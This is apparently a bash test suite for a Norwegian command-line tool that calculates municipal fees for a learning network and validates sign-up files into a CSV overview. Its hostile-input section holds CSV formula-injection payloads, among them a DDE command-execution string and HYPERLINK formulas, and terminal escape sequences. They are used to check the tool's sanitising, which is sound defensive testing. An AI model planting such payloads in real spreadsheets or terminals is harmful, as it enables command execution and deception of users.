#!/usr/bin/env bash
# The CLI as a script or a KS adviser uses it: output, --json, and exit code 2 on bad input.
set -u
cli=${1:?usage: test_cli.sh path/to/laeringsnettverk DATA_DIR}
data=${2:?usage: test_cli.sh path/to/laeringsnettverk DATA_DIR}
passed=0 failed=0
expect() {  # expect NAME EXIT_CODE PATTERN -- ARGS...
  local name=$1 code=$2 pattern=$3; shift 4
  local out rc
  out=$(timeout 10 "$cli" "$@" 2>&1); rc=$?
  if [[ $rc -eq $code ]] && grep -q -E -- "$pattern" <<<"$out"; then
    passed=$((passed + 1))
  else
    failed=$((failed + 1)); echo "FAIL $name: exit $rc (want $code), output: $out"
  fi
}
nb=$'\u00a0'
expect boundary-low    0 "Avgift kr${nb}11${nb}625 for 5${nb}000 innbyggere" -- fee 5000
expect boundary-high   0 "Avgift kr${nb}14${nb}125 for 5${nb}001 innbyggere" -- fee 5001
expect grouped-input   0 "Avgift kr${nb}28${nb}250"                              -- fee "12 000"
expect dotted-input    0 "Avgift kr${nb}28${nb}250"                              -- fee 12.000
expect top             0 "høyeste trinn"                                          -- fee 128982
expect next            0 "gjelder fra 15${nb}001 innbyggere"                      -- fee 12000
expect english         0 "Fee kr${nb}28${nb}250 for 12${nb}000 inhabitants"       -- fee 12000 --lang en
expect nynorsk         0 "Avgift kr${nb}28${nb}250 for 12${nb}000 innbyggjarar"   -- fee 12000 --lang nn
expect nynorsk-next    0 "gjeld frå 15${nb}001 innbyggjarar"                     -- fee 12000 --lang nn
expect english-comma   0 "Fee kr${nb}21${nb}750 for 7${nb}501 inhabitants"        -- fee 7,501 --lang en
expect english-point   2 "in English the point is the decimal sign"              -- fee 7.501 --lang en
expect norwegian-comma 2 "på norsk er komma desimaltegn"                         -- fee 7,501
expect one-more        0 "\(én innbygger til\)"                                  -- fee 5000
expect unknown-lang    0 "Avgift kr${nb}28${nb}250"                              -- fee 12000 --lang de
expect json-fee        0 '"fee": 28250'                                           -- fee 12000 --json
expect json-next       0 '"inhabitants_away": 3001'                               -- fee 12000 --json
expect json-top        0 '"next_bracket": null'                                   -- fee 40001 --json
expect zero            2 "minst 1"                                                -- fee 0
expect negative        2 "minst 1"                                               -- fee -12
expect too-large       2 "over 1${nb}000${nb}000"                                 -- fee 1000001
expect decimal         2 "ikke et helt tall"                                      -- fee 12,5
expect text            2 "ikke et tall"                                           -- fee tolv
expect huge            2 "over"                                                   -- fee 99999999999999999999999
expect no-arg          2 "laeringsnettverk fee <innbyggertall>"                             -- fee
expect extra-arg       2 "Bruk:"                                                  -- fee 1 2
expect no-command      2 "Bruk:"                                                  --
expect unknown-command 2 "Bruk:"                                                  -- frobnicate
expect help            0 "Bruk:"                                                  -- --help
# KS's side: validate and intake.
d=$data
expect validate-ready    0 "pamelding-3024-baerum.json: klar til å sendes"          -- validate "$d/pamelding-3024-baerum.json"
expect validate-warning  1 "advarsel group: Arbeidsgruppen mangler politisk"         -- validate "$d/pamelding-3012-aremark.json"
expect validate-fee      1 "feil fee_shown: Avgiften i filen \(kr${nb}14${nb}125\) er ikke den beregnede \(kr${nb}11${nb}625\)" -- validate "$d/pamelding-3012-aremark.json"
expect validate-errors   1 "feil contact.phone: «1234» er ikke et norsk telefonnummer" -- validate "$d/pamelding-3021-as-utkast.json"
expect validate-orgnr    1 "feil municipality.orgnr: Organisasjonsnummeret er ikke gyldig" -- validate "$d/pamelding-3021-as-utkast.json"
expect validate-broken   2 "broken.json: kan ikke leses: Filen slutter før JSON-teksten er ferdig"  -- validate "$d/broken.json"
expect validate-newer    2 "version: Filen er laget med en nyere versjon \(2\)"    -- validate "$d/newer-version.json"
expect validate-missing  2 "kan ikke leses: kan ikke lese filen: finnes ikke"        -- validate "$d/finnes-ikke.json"
expect validate-missing-en 2 "cannot be read: cannot read the file: does not exist"  -- validate "$d/finnes-ikke.json" --lang en
expect validate-mixed    2 "klar til å sendes"                                       -- validate "$d/pamelding-3024-baerum.json" "$d/broken.json"
expect validate-none     2 "Bruk:"                                                   -- validate
tmp=$(mktemp -d); trap 'rm -rf "$tmp"' EXIT
expect intake            0 "6 filer: 1 klar, 2 med feil, 2 ugyldige, 1 erstattet. Sum avgift kr${nb}55${nb}000" -- intake "$d" --csv "$tmp/oversikt.csv"
expect intake-pending    0 "Filene med feil ville lagt til kr${nb}53${nb}875"      -- intake "$d" --csv "$tmp/oversikt.csv"
check_csv() {  # check_csv NAME PATTERN
  if grep -q -E -- "$2" "$tmp/oversikt.csv"; then passed=$((passed + 1)); else failed=$((failed + 1)); echo "FAIL csv $1"; fi
}
check_csv header    "^.?.?.?Fil;Kommunenummer;Kommunenummer fra 2024;Kommune;Innbyggertall;Innbyggertall i filen;Trinn;Avgift \(beregnet\)"
check_csv baerum    "^pamelding-3024-baerum-2.json;3024;3201;Bærum;128982;128982;8: 40${nb}001 og mer;55000;55000;.*;2026-11-29T09:15:00Z;klar;erstatter pamelding-3024-baerum.json"
check_csv replaced  "^pamelding-3024-baerum.json;.*;erstattet;erstattet av den nyere filen pamelding-3024-baerum-2.json"
check_csv fee-diff  "Avgiften i filen \(kr${nb}14${nb}125\) er ikke den beregnede \(kr${nb}11${nb}625\)"
check_csv ssb-pop   "^pamelding-3021-as-utkast.json;3021;3218;Ås;20780;tjue tusen;6: "
check_csv broken    "^broken.json;.*;ugyldig fil;\"Filen slutter før JSON-teksten er ferdig"
check_csv totals    "^Sum;;;\"1 klar, 2 med feil, 2 ugyldige, 1 erstattet\";;;;55000;.*ville lagt til kr${nb}53${nb}875"

# Files that lie or attack, made from the Bærum sample.
h=$tmp/hostile; mkdir "$h"
python3 - "$d/pamelding-3024-baerum.json" "$h" <<'PY'
import json, sys
src = json.load(open(sys.argv[1], encoding="utf-8"))
def make(name, **change):
    d = json.loads(json.dumps(src))
    for path, value in change.items():
        obj = d
        keys = path.split("__")
        for k in keys[:-1]: obj = obj[k]
        obj[keys[-1]] = value
    json.dump(d, open(f"{sys.argv[2]}/{name}.json", "w", encoding="utf-8"), ensure_ascii=False)
make("unknown", municipality__number="9999")
make("oslo", municipality__name="Oslo")
make("halden-orgnr", municipality__orgnr="959159092")
make("small", municipality__population=3000, fee_shown=11625)
make("same-bracket", municipality__population=120000)
make("number-2024", municipality__number="3201")
make("kommune-suffix", municipality__name="Bærum kommune")
make("formula", contact__name='=HYPERLINK("http://example.invalid","Klikk")', contact__title="+1", invoice__reference="@SUM(A1)")
make("huge-population", municipality__population=2**63)
# A formula corpus in every text the CSV shows, and in file names.
formulas = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\uff1d1", "=cmd|' /C calc'!A0",
            '=HYPERLINK("http://example.invalid/?"&A1,"Klikk")', "-2+3", "+47 ;=1", '"=1"', "=1\n=2"]
for i, f in enumerate(formulas):
    make(f"{f[:1].strip() or '_'}formel-{i}", municipality__number="9999", municipality__name=f, municipality__population=f,
         contact__name=f, contact__email=f, contact__phone=f, theme_day__preferred_from=f)
PY
mv "$h/=formel-0.json" "$h/=1+1.json"
expect hostile-unknown   1 "feil municipality.number: Kommunenummer 9999 finnes ikke"   -- validate "$h/unknown.json"
expect hostile-name      1 "feil municipality.name: Kommunenummer 3024 er Bærum, ikke «Oslo»" -- validate "$h/oslo.json"
expect hostile-orgnr     1 "feil municipality.orgnr: 959159092 er organisasjonsnummeret til Halden; Bærum har" -- validate "$h/halden-orgnr.json"
expect hostile-small     1 "feil municipality.population: SSB oppgir 128${nb}982 innbyggere i Bærum per .*avgift kr${nb}55${nb}000" -- validate "$h/small.json"
expect hostile-small-fee 1 "feil fee_shown: Avgiften i filen \(kr${nb}11${nb}625\) er ikke den beregnede \(kr${nb}55${nb}000\)" -- validate "$h/small.json"
expect same-bracket      0 "advarsel municipality.population: .*avgiften blir den samme" -- validate "$h/same-bracket.json"
expect number-2024       0 "advarsel municipality.number: 3201 er kommunenummeret Bærum har hatt fra 2024; i nettverket er Bærum 3024" -- validate "$h/number-2024.json"
expect kommune-suffix    0 "kommune-suffix.json: klar til å sendes"                  -- validate "$h/kommune-suffix.json"
expect huge-population   1 "Innbyggertallet kan ikke være over"                        -- validate "$h/huge-population.json"
# Six are Bærum beyond doubt (3201 is Bærum too): the last by name counts (small.json, with errors), five are
# replaced. 9999, «Oslo» under 3024 and Halden's org. nr are not Bærum for sure: they stand alone, with errors.
expect hostile-intake    0 "23 filer: 0 klare, 18 med feil, 0 ugyldige, 5 erstattet"  -- intake "$h" --csv "$tmp/hostile.csv"
# Every cell is read back by Python's csv module; no cell starts like a formula.
if python3 - "$tmp/hostile.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline=""), delimiter=";"))
assert all(len(r) == len(rows[0]) for r in rows), "ragged rows"
for r in rows:
    for c in r:
        assert not c or c[0] not in "=+-@\t\r", c
assert any(c.startswith("'=HYPERLINK(") for r in rows for c in r)
assert any(r[0] == "'=1+1.json" for r in rows), "a file name that is a formula"
for f in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0", "\uff1d1", "=1\n=2"]:
    assert sum(c == "'" + f for r in rows for c in r) >= 3, f
PY
then passed=$((passed + 1)); else failed=$((failed + 1)); echo "FAIL csv formulas"; fi
expect intake-nodir      2 "^Mappen .*/finnes-ikke finnes ikke\.$"                    -- intake "$d/finnes-ikke" --csv "$tmp/x.csv"
expect intake-notdir     2 "pamelding-3024-baerum.json er ikke en mappe"              -- intake "$d/pamelding-3024-baerum.json" --csv "$tmp/x.csv"
expect intake-nocsv      2 "Oppgi hvor oversikten skal skrives"                       -- intake "$d"
head -c 6000000 /dev/zero | tr '\0' ' ' > "$tmp/big.json"
expect validate-big      2 "største tillatte er 5${nb}120 KB"                         -- validate "$tmp/big.json"
printf '{"format": tull}' > "$tmp/tull.json"
expect validate-where    2 "Filen er ikke gyldig JSON \(feil ved byte 12\)"            -- validate "$tmp/tull.json"
printf '{"a":"\xff"}' > "$tmp/latin1.json"
expect validate-utf8     2 "ikke gyldig UTF-8-tekst \(feil ved byte 6\)"            -- validate "$tmp/latin1.json"
mkdir "$tmp/empty"
expect intake-empty      2 "Fant ingen .json-filer"                                  -- intake "$tmp/empty" --csv "$tmp/x.csv"

# Never block, never abort, never drop: a FIFO named *.json, .JSON in capitals, an unreadable folder,
# a file of 50 MB (its real size is said), a CSV that cannot be written.
odd=$tmp/odd; mkdir "$odd"
cp "$d/pamelding-3024-baerum.json" "$odd/STOR-BOKSTAV.JSON"
mkfifo "$odd/fifo.json"
mkdir "$odd/mappe.json"
truncate -s 50M "$odd/femti.json"
expect fifo-validate     2 "fifo.json: kan ikke leses: er ikke en vanlig fil"         -- validate "$odd/fifo.json"
expect fifo-intake       0 "4 filer: 1 klar, 0 med feil, 3 ugyldige"                -- intake "$odd" --csv "$tmp/odd.csv"
check_odd() { if grep -q -E -- "$2" "$tmp/odd.csv"; then passed=$((passed + 1)); else failed=$((failed + 1)); echo "FAIL odd csv $1"; fi; }
check_odd capitals  "^STOR-BOKSTAV.JSON;3024;.*;klar;"
check_odd fifo      "^fifo.json;.*;ugyldig fil;\"?er ikke en vanlig fil"
check_odd folder    "^mappe.json;.*;ugyldig fil;\"?er ikke en vanlig fil"
check_odd real-size "^femti.json;.*;ugyldig fil;\"?Filen er 51${nb}200 KB; største tillatte er 5${nb}120 KB"
expect real-size         2 "Filen er 5${nb}860 KB; største tillatte er 5${nb}120 KB"  -- validate "$tmp/big.json"
expect write-error       2 "Kan ikke skrive .*/finnes-ikke/x.csv: finnes ikke"         -- intake "$d" --csv "$tmp/finnes-ikke/x.csv"
expect disk-full         2 "Kan ikke skrive /dev/full: disken er full"                 -- intake "$d" --csv /dev/full
expect csv-to-stdout     0 "^pamelding-3024-baerum-2.json;3024;"                        -- intake "$d" --csv -
# A link to the overview stays a link: the file it points to gets the new overview.
echo gammel > "$tmp/target.csv"; ln -s "$tmp/target.csv" "$tmp/link.csv"
"$cli" intake "$d" --csv "$tmp/link.csv" >/dev/null
if [[ -L $tmp/link.csv ]] && grep -q "^Sum;" "$tmp/target.csv"; then passed=$((passed + 1)); else failed=$((failed + 1)); echo "FAIL symlink csv"; fi
if ! ls -a "$tmp" | grep -q "tmp-"; then passed=$((passed + 1)); else failed=$((failed + 1)); echo "FAIL temporary file left"; fi

# The overview never lands on a sign-up by a slip, and a replaced overview keeps its permissions (it holds
# names, e-mail addresses and phone numbers).
cp "$d/pamelding-3024-baerum.json" "$tmp/keep.json"
expect csv-is-json       2 "Oversikten skrives ikke til .*keep.json: en .json-fil er en påmelding" -- intake "$d" --csv "$tmp/keep.json"
if cmp -s "$d/pamelding-3024-baerum.json" "$tmp/keep.json"; then passed=$((passed + 1)); else failed=$((failed + 1)); echo "FAIL sign-up overwritten"; fi
echo old > "$tmp/private.csv"; chmod 600 "$tmp/private.csv"
"$cli" intake "$d" --csv "$tmp/private.csv" >/dev/null
if [[ $(stat -c %a "$tmp/private.csv") == 600 ]] && grep -q "^Sum;" "$tmp/private.csv"; then passed=$((passed + 1)); else failed=$((failed + 1)); echo "FAIL permissions: $(stat -c %a "$tmp/private.csv")"; fi
expect stdout-named      0 "Skrevet til standard ut"                                  -- intake "$d" --csv -
expect intake-help       2 "Bruk:"                                                    -- intake --help

# Bytes that are not JSON after a NUL, a file named just «.json», a name that is not UTF-8, a population 1e30.
odd2=$tmp/odd2; mkdir "$odd2"
(cat "$d/pamelding-3024-baerum.json"; printf '\0{"tull":') > "$odd2/nul.json"
cp "$d/pamelding-3024-baerum.json" "$odd2/.json"
cp "$d/pamelding-3012-aremark.json" "$odd2/$(printf 'p\xe5melding.json')"
sed 's/"population": "tjue tusen"/"population": 1e30/' "$d/pamelding-3021-as-utkast.json" > "$odd2/huge.json"
expect nul-byte          2 "nul.json: kan ikke leses: Filen har en NUL-byte \(byte [0-9]+\)" -- validate "$odd2/nul.json"
expect float-population  1 "«1e\+30» er ikke et tall"                                   -- validate "$odd2/huge.json"
expect odd-names         0 "4 filer: 1 klar, 2 med feil, 1 ugyldig, 0 erstattet"      -- intake "$odd2" --csv "$tmp/odd2.csv"
if python3 -c 'import sys; t = open(sys.argv[1], "rb").read().decode("utf-8"); assert "p\ufffdmelding.json;" in t and "\n.json;3024;" in t' "$tmp/odd2.csv"; then
  passed=$((passed + 1)); else failed=$((failed + 1)); echo "FAIL odd names csv"; fi
# A folder that cannot be listed: as root every folder can, so the check runs as «nobody».
locked=$tmp/locked; mkdir "$locked"; cp "$d/pamelding-3024-baerum.json" "$locked/"; chmod 000 "$locked"; chmod 755 "$tmp"
if [[ $(id -u) -eq 0 ]]; then as_user=(setpriv --reuid=65534 --regid=65534 --clear-groups); else as_user=(); fi
out=$("${as_user[@]}" "$cli" intake "$locked" --csv /dev/null 2>&1); rc=$?
if [[ $rc -eq 2 ]] && grep -q "Kan ikke lese mappen $locked" <<<"$out"; then passed=$((passed + 1)); else failed=$((failed + 1)); echo "FAIL locked folder: exit $rc: $out"; fi
chmod 755 "$locked"

# Another network's program file (--program): six brackets and three gatherings, its own amounts.
prog=$d/../programs/test-seks-trinn-tre-samlinger.json
expect program-fee       0 "Avgift kr${nb}22${nb}000 for 12${nb}000 innbyggere"        -- fee 12000 --program "$prog"
expect program-bracket   0 "Trinn 3 av 6: 8${nb}001–15${nb}000 innbyggere"           -- fee 12000 --program "$prog"
expect program-top       0 "Trinn 6 av 6: 60${nb}001 og mer innbyggere"           -- --program "$prog" fee 70000
expect program-lowest    0 "Avgift kr${nb}9${nb}000 for 1 innbygger"                 -- fee 1 --program "$prog"
expect program-json      0 '"program": "test-seks-trinn-tre-samlinger"'             -- fee 12000 --json --program "$prog"
expect program-english   0 "Fee kr${nb}50${nb}000 for 60${nb}001 inhabitants"        -- fee 60001 --program "$prog" --lang en
# A sign-up made for the bundled network is not ready for another one: it says which it was made for.
expect program-other     1 "feil program: Påmeldingen er laget for programmet «ks-viken-naeringsutvikling-2022», ikke for «test-seks-trinn-tre-samlinger»" -- validate "$d/pamelding-3024-baerum.json" --program "$prog"
expect program-intake    0 "6 filer: 0 klare, 4 med feil, 2 ugyldige, 0 erstattet. Sum avgift kr${nb}0" -- intake "$d" --csv "$tmp/annet.csv" --program "$prog"
# What the test program states beyond the invitation of 2022: fees without VAT, a deadline, at most 6 each.
expect program-vat       0 "^Beløpene er uten merverdiavgift\.$"                   -- fee 12000 --program "$prog"
expect program-vat-json  0 '"vat": "excluded"'                                       -- fee 12000 --json --program "$prog"
expect bundled-vat-json  0 '"vat": null'                                             -- fee 12000 --json
python3 - "$d/pamelding-3024-baerum.json" "$tmp" <<'PY'
import json, sys
doc = json.load(open(sys.argv[1], encoding="utf-8"))
doc["program"] = "test-seks-trinn-tre-samlinger"
doc["fee_shown"] = 50000
doc["exported_at"] = "2027-02-16T00:30:00+01:00"
json.dump(doc, open(sys.argv[2] + "/late.json", "w", encoding="utf-8"), ensure_ascii=False)
doc["exported_at"] = "2027-02-15T23:30:00+01:00"
doc["group"] = [dict(doc["group"][0], name=f"Medlem {i}") for i in range(7)]
json.dump(doc, open(sys.argv[2] + "/seven.json", "w", encoding="utf-8"), ensure_ascii=False)
PY
expect program-late      0 "advarsel exported_at: Sendt 16.02.2027, etter påmeldingsfristen 15.02.2027\." -- validate "$tmp/late.json" --program "$prog"
expect program-late-ok   0 "late.json: klar til å sendes"                           -- validate "$tmp/late.json" --program "$prog"
# A terminal escape in a sign-up (the contact's e-mail, shown in its finding) is printed as «�», never as one.
python3 - "$d/pamelding-3024-baerum.json" "$tmp/escape.json" <<'PY'
import json, sys
doc = json.load(open(sys.argv[1], encoding="utf-8"))
doc["contact"]["email"] = "kari\u001b]0;pwned\u0007@\u001b[31m"
json.dump(doc, open(sys.argv[2], "w", encoding="utf-8"))
PY
expect escape-shown      1 "kari�\]0;pwned�@�\[31m" -- validate "$tmp/escape.json"
if "$cli" validate "$tmp/escape.json" 2>&1 | grep -q -P '[\x00-\x09\x0b-\x1f\x7f]'; then
  failed=$((failed + 1)); echo "FAIL escape-raw: a control character reached the terminal"
else
  passed=$((passed + 1))
fi
expect program-seven     1 "feil group: Nettverket tar inntil 6 deltakere fra hver kommune; arbeidsgruppen har 7\." -- validate "$tmp/seven.json" --program "$prog"
# A fee per inhabitant (kr 2,50, at least kr 10 000, at most kr 60 000) instead of brackets.
per=$d/../programs/test-per-innbygger.json
expect per-fee           0 "^Avgift kr${nb}30${nb}000 for 12${nb}000 innbyggere \(kr${nb}2,50 per innbygger\)$" -- fee 12000 --program "$per"
expect per-floor         0 "Avgift kr${nb}10${nb}000 for 3${nb}000 innbyggere \(minstebeløpet\)"   -- fee 3000 --program "$per"
expect per-ceiling       0 "Avgift kr${nb}60${nb}000 for 30${nb}000 innbyggere \(høyeste beløp\)"  -- fee 30000 --program "$per"
expect per-rule          0 "^Avgiften er kr${nb}2,50 per innbygger, minst kr${nb}10${nb}000 og høyst kr${nb}60${nb}000\.$" -- fee 12000 --program "$per"
expect per-no-bracket    0 "^kr${nb}2,50 per innbygger$"                               -- fee 12000 --program "$per"
expect per-english       0 "Fee kr${nb}10${nb}000 for 3${nb}000 inhabitants \(the lowest fee\)" -- fee 3000 --program "$per" --lang en
json=$("$cli" fee 3000 --json --program "$per")
if python3 -c 'import json,sys; d=json.loads(sys.argv[1]); assert d["fee"]==10000 and d["bracket"] is None and d["per_inhabitant"]=={"amount_ore":250,"floor":10000,"ceiling":60000,"limit":"floor"} and d["next_bracket"] is None' "$json"; then
  passed=$((passed + 1)); else failed=$((failed + 1)); echo "FAIL per-inhabitant json: $json"; fi
out=$("$cli" fee 12000 --program "$per"); if grep -q "Trinn" <<<"$out"; then failed=$((failed + 1)); echo "FAIL per-inhabitant has no brackets: $out"; else passed=$((passed + 1)); fi
# A program file that is missing, not JSON, or not a program is refused, with where and why.
expect program-missing   2 "^Programfila .*/finnes-ikke.json: kan ikke lese filen: finnes ikke$" -- fee 12000 --program "$d/finnes-ikke.json"
expect program-notjson   2 "Programfila .*broken.json er ikke et gyldig program: .*JSON"  -- fee 12000 --program "$d/broken.json"
python3 - "$prog" "$tmp/gap.json" <<'PY'
import json, sys
p = json.load(open(sys.argv[1], encoding="utf-8"))
p["fees"]["brackets"][3]["min"] = 15002
json.dump(p, open(sys.argv[2], "w", encoding="utf-8"), ensure_ascii=False)
PY
expect program-gap       2 "er ikke et gyldig program: fees.brackets\[3\]"       -- fee 12000 --program "$tmp/gap.json"
expect program-sign-up   2 "er ikke et gyldig program"                               -- fee 12000 --program "$d/pamelding-3024-baerum.json"
# A region that names a municipality outside the list the command checks against.
python3 - "$prog" "$tmp/region.json" <<'PY'
import json, sys
p = json.load(open(sys.argv[1], encoding="utf-8"))
p["regions"][1]["municipalities"][1] = "5001"
json.dump(p, open(sys.argv[2], "w", encoding="utf-8"), ensure_ascii=False)
PY
expect program-region    2 "er ikke et gyldig program: regions\[1\]\.municipalities\[1\]: Kommunenummeret 5001 finnes ikke" -- fee 12000 --program "$tmp/region.json"
expect program-novalue   2 "^--program trenger navnet på en programfil"              -- fee 12000 --program
expect program-option    2 "^--program trenger navnet på en programfil"              -- fee 12000 --program --json
expect program-equals    0 "Avgift kr${nb}22${nb}000 for 12${nb}000 innbyggere"        -- fee 12000 "--program=$prog"
expect program-equals-no 2 "^--program trenger navnet på en programfil"              -- fee 12000 --program=
expect program-twice     2 "^--program kan bare gis én gang\.$"                      -- fee 12000 --program "$d/finnes-ikke.json" --program "$prog"
expect program-usage     0 "--program PROGRAMFIL"                                    -- --help

json=$("$cli" fee 7500 --json)
if python3 -c 'import json,sys; d=json.loads(sys.argv[1]); assert d["fee"]==14125 and d["bracket"]["number"]==2 and d["next_bracket"]["from"]==7501' "$json"; then
  passed=$((passed + 1)); else failed=$((failed + 1)); echo "FAIL json-parse: $json"; fi
echo "$passed passed, $failed failed"
[[ $failed -eq 0 ]]
